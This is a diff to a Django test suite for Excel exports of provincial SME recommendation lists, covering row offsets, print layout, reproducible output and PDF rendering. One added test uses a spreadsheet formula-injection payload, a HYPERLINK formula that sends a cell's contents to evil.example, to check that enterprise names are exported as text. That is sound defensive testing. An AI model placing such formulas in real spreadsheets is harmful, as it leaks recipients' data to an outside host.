@@ -126,7 +126,7 @@ def test_zone_user_sees_only_their_zone(client, sme_run, firms, lz_user):
     assert client.get("/programmes/sme/export.xlsx", {"version": "2022", "zone": "GS-JC"}).status_code == 404
     book = openpyxl.load_workbook(io.BytesIO(client.get("/programmes/sme/export.xlsx", {"version": "2022",
                                                                                         "status": "all"}).content))
-    names = [row[1] for row in book.active.iter_rows(min_row=5, values_only=True) if row[0]]
+    names = [row[1] for row in book.active.iter_rows(min_row=4, values_only=True) if row[0]]
     assert "金昌丁新材料有限公司" not in names and len(names) == 4
 
 
@@ -149,18 +149,18 @@ def test_export_is_a_recommendation_list(client, sme_run, province_user):
     assert list(book) == ["推荐名单", "培育库"]
     rows = book["推荐名单"]
     assert rows[0][0] == "兰州经济技术开发区专精特新中小企业推荐名单"
-    assert list(rows[3]) == RECOMMENDED
+    assert list(rows[2]) == RECOMMENDED
     # qualifiers only, with their scores: 甲 (乙 and 丙 fall short, 戊 is already recognised)
     qualifier = ProgrammeResult.objects.get(run=sme_run, enterprise__name="兰州甲科技有限公司")
-    assert [row[:7] for row in rows[4:] if row[0]] == [
+    assert [row[:7] for row in rows[3:] if row[0]] == [
         (1, "兰州甲科技有限公司", qualifier.enterprise.uscc, "兰州经济技术开发区", "C3841 锂离子电池制造",
          pytest.approx(qualifier.score), "符合")]
     assert qualifier.score is not None
     near = book["培育库"]
-    assert near[0][0] == "兰州经济技术开发区专精特新中小企业培育库" and list(near[3]) == HEADER
+    assert near[0][0] == "兰州经济技术开发区专精特新中小企业培育库" and list(near[2]) == HEADER
     # near-misses with their gaps: 乙 is one requirement short; 丙 (two short) is not a near-miss
-    assert [row[1] for row in near[4:] if row[0]] == ["兰州乙材料有限公司"]
-    assert near[4][6] == "不符合" and "2.4% → 3.0%" in near[4][7] and "30万元" in near[4][7]
+    assert [row[1] for row in near[3:] if row[0]] == ["兰州乙材料有限公司"]
+    assert near[3][6] == "不符合" and "2.4% → 3.0%" in near[3][7] and "30万元" in near[3][7]
 
 
 def test_an_empty_recommendation_list_says_so(client, firms, province_user):
@@ -170,7 +170,7 @@ def test_an_empty_recommendation_list_says_so(client, firms, province_user):
     book = sheets(r)
     rows = book["推荐名单"]
     assert rows[0][0] == "各园区专精特新“小巨人”企业推荐名单"
-    assert rows[4][0] == "无符合条件企业" and all(not any(row) for row in rows[5:])
+    assert rows[3][0] == "无符合条件企业" and all(not any(row) for row in rows[4:])
     assert "本标准不计分" in rows[1][0]
 
 
@@ -181,7 +181,7 @@ def test_specialized_2026_list_carries_the_development_score(client, firms, prov
     client.force_login(province_user)
     rows = sheets(client.get("/programmes/sme/export.xlsx", {"version": "2026", "tier": "sme-specialized",
                                                              "status": "all"}))["评价结果名单"]
-    assert [row[5] for row in rows[4:] if row[0]] == [72.5] * 6
+    assert [row[5] for row in rows[3:] if row[0]] == [72.5] * 6
 
 
 def test_province_wide_lists_are_complete(client, sme_run, zones, province_user):
@@ -193,7 +193,7 @@ def test_province_wide_lists_are_complete(client, sme_run, zones, province_user)
                                          for e in many])
     client.force_login(province_user)
     rows = sheets(client.get("/programmes/sme/export.xlsx", {"version": "2022", "status": "all"}))["评价结果名单"]
-    assert len([row for row in rows[4:] if row[0]]) == 1106
+    assert len([row for row in rows[3:] if row[0]]) == 1106
     assert not any("仅导出" in str(row[0]) for row in rows)
 
 
@@ -348,3 +348,39 @@ def test_the_list_export_needs_the_export_capability(client, sme_run, province_u
     client.force_login(make_user("no-unit"))
     response = client.get("/programmes/sme/export.xlsx", {"version": "2022"})
     assert response.status_code == 403 and "attachment" not in response.get("Content-Disposition", "")
+
+
+def test_recommendation_list_prints_on_as_few_pages_as_its_rows_need(client, sme_run, province_user):
+    client.force_login(province_user)
+    get = lambda: client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized"})  # noqa: E731
+    response = get()
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    ws = book["推荐名单"]
+    assert "A1:G1" in {str(r) for r in ws.merged_cells.ranges}  # the title spans the list: never cut
+    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
+    assert ws.page_setup.fitToHeight == 0 and ws.print_title_rows == "$3:$3"
+    assert ws.print_area == f"'推荐名单'!$A$1:$G${ws.max_row}"
+    assert book.properties.created.date() == sme_run.evaluation_date and book.properties.creator == "甘肃省商务厅"
+    assert get().content == response.content  # the same run gives the same bytes
+
+
+def test_an_enterprise_name_like_a_formula_stays_text_in_the_lists(client, sme_run, province_user):
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    Enterprise.objects.filter(name="兰州甲科技有限公司").update(name=payload)
+    client.force_login(province_user)
+    for params in ({"version": "2022", "tier": "sme-specialized"}, {"version": "2022", "status": "all"}):
+        book = openpyxl.load_workbook(io.BytesIO(client.get("/programmes/sme/export.xlsx", params).content))
+        cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.value == payload]
+        assert cells and all(c.data_type == "s" for c in cells), params
+
+
+def test_recommendation_list_renders_on_one_landscape_page_with_its_title(client, sme_run, province_user, tmp_path):
+    from jingkai.intake.tests.test_spreadsheets import render_pdf
+
+    client.force_login(province_user)
+    path = tmp_path / "推荐名单.xlsx"
+    path.write_bytes(client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized"}).content)
+    pages, landscape, texts = render_pdf(path, tmp_path)
+    # two sheets (推荐名单, 培育库), each a few rows: one page each, the title whole on it
+    assert pages == 2 and landscape
+    assert "各园区专精特新中小企业推荐名单" in texts[0] and "各园区专精特新中小企业培育库" in texts[1]
